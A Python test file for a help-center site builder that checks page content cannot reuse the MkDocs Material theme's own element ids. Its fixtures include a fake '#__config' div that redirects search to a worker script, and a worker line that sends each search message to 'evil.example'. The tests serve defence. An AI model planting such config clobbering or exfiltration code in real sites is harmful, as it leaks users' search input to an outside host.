"""The theme's own ids and names are read from its templates and scripts, and content may not use them.

Material reads its settings with querySelector("#__config"): the first element
with that id wins, and a page's content comes before the theme's script. An
article holding <div id="__config"> and a script under docs/ sent every search
keystroke to another host. The ids come from the templates and scripts, so a new
theme version or override is covered without a list to keep.
"""

from __future__ import annotations

from pathlib import Path

from helpcenter.security.theme_names import collect_theme_names
from sitebuilder import build_site

HOME = "---\ntitle: Home\ndescription: The home page.\n---\n\nWelcome.\n"
THEME_ID = "is the theme's own id: its scripts find their elements by it, and a page using it takes them over"


def test_ids_names_and_numbered_ids_come_from_templates_and_scripts(tmp_path: Path) -> None:
    base = tmp_path / "base.html"
    base.write_text(
        '<input id="__drawer"><label for="__search"></label><form name="search"></form>\n'
        '{% for p in palettes %}<input id="__palette_{{ loop.index0 }}">{% endfor %}\n'
        '{% set path = "__nav_" ~ loop.index %}<input id="{{ path }}"><label id="{{ path }}_label"></label>\n'
        '{% set box_id = "hc-home-search" %}<input id="{{ box_id }}"><a href="#__main">skip</a>\n'
    )
    script = tmp_path / "bundle.min.js"
    script.write_text(
        'var c=ue("#__config");e.id=`__code_${n}`;document.getElementById("hc-help");__md_get("__tabs");x="#a"\n'
    )
    names = collect_theme_names([base], [script.read_text()])
    assert names.ids == {"__drawer", "__search", "hc-home-search", "__main", "__config", "hc-help", "__tabs", "a"}
    assert names.names == {"search"}
    assert names.prefixes == {"__palette_", "__nav_", "__code_"}
    assert names.owner("__config") == "__config"
    assert names.owner("__nav_12_label") == "__nav_"
    assert names.owner("search") is None  # a heading "Search" has this id; only the theme's form is named so
    assert names.owner("search", as_name=True) == "search"
    assert names.owner("configuration") is None


def test_content_cannot_take_over_the_theme_s_configuration(tmp_path: Path) -> None:
    """The red team's attack: a fake #__config pointing search at a worker of its own, saved under docs/."""
    article = (
        "---\ntitle: Tips\ndescription: Tips for a test.\nreviewed: 2026-01-01\n---\n\nSome tips.\n\n"
        '<div id="__config" hidden>{"base": ".", "features": [], "search": "../../assets/images/w.js"}</div>\n'
    )
    result = build_site(tmp_path, {"index.md": HOME, "tips.md": article})
    assert not result.ok
    assert "Traceback" not in result.output
    assert result.problems == [
        f"docs/tips.md:9:6: theme-id '__config' {THEME_ID} -> choose another id (did you mean 'config'?)"
    ]

    worker = {"docs/assets/images/w.js": "onmessage = e => fetch('https://evil.example/?q=' + e.data)\n"}
    result = build_site(tmp_path, {"index.md": HOME, "tips.md": article}, extra_files=worker)
    assert not result.ok
    assert result.problems[0].startswith("docs/assets/images/w.js: file-type-not-allowed a script mkdocs.yml does not")


def test_the_installed_theme_s_ids_are_found() -> None:
    """Material's own: its settings, its search box, its drawer; and the overrides' feedback and search help."""
    import material

    theme = Path(material.__file__).parent / "templates"
    overrides = Path(__file__).resolve().parents[1] / "overrides"
    names = collect_theme_names(
        [*theme.rglob("*.html"), *overrides.rglob("*.html")],
        [
            path.read_text(encoding="utf-8")
            for folder in (theme, overrides)
            for path in (folder / "assets" / "javascripts").rglob("*.js")
        ],
    )
    assert {"__config", "__search", "__drawer", "__toc"} <= names.ids
    assert any(name.startswith("hc-") for name in names.ids)
